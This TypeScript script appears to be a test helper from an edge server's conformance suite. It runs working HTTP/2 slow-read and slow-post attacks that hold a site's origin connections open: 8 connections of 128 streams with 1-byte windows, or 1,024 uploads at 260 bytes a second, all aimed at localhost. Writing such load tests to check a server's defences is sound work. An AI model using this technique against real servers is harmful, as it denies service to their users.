/**
 * A program that takes a site's connections to its origin: `node hold-attacker.js PORT HOST KIND`.
 * `slow-get`: 8 connections of 128 requests each for 2 MB that no cache keeps, taken by 17 KB/s;
 * `slow-post`: 1,024 uploads of 260 bytes/s. It prints "asked" once all is asked for, and ends with
 * its standard input.
 */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { data, headers, PREFACE, SETTING, settings, settingsAck, windowUpdate } from '../../edge/conformance/frames.ts';
import { block } from '../../edge/conformance/hpack.ts';

const ADDRESS = '127.0.0.2';
const CONNECTIONS = 8;
const STREAMS = 128;
/** Bytes a second: of all windows that open, and of each upload. */
const TAKEN = 17_000;
const BROUGHT = 260;
const SECOND = 1000;

const [port, host, kind] = process.argv.slice(2);
const isPost = kind === 'slow-post';

const lines = (path: string): Buffer =>
  block([
    [':method', isPost ? 'POST' : 'GET'],
    [':scheme', 'http'],
    [':authority', host],
    [':path', path],
    ...(isPost ? ([['content-length', '10000000']] as const) : []),
  ]);
const ids = Array.from({ length: STREAMS }, (_, i) => 2 * i + 1);
const END_HEADERS = 4;
const END_STREAM = 1;

const sockets: Socket[] = [];
for (let i = 0; i < CONNECTIONS; i++) {
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: ADDRESS });
  socket.on('error', () => {});
  await once(socket, 'connect');
  socket.resume();
  const flags = END_HEADERS | (isPost ? 0 : END_STREAM);
  const questions = ids.map((id) => headers(id, lines(isPost ? '/upload' : `/uncached?${i}-${id}`), flags));
  socket.write(Buffer.concat([PREFACE, settings([SETTING.INITIAL_WINDOW_SIZE, 1]), settingsAck(), ...questions]));
  sockets.push(socket);
}
const share = Math.max(1, Math.floor(TAKEN / CONNECTIONS / STREAMS));
const part = Buffer.alloc(BROUGHT, 'x');
const more = Buffer.concat(ids.map((id) => (isPost ? data(id, part) : windowUpdate(id, share))));
setInterval(() => {
  for (const socket of sockets) if (!socket.destroyed) socket.write(more);
}, SECOND).unref();
process.stdout.write('asked\n');
process.stdin.resume();
await once(process.stdin, 'end');
process.exit();
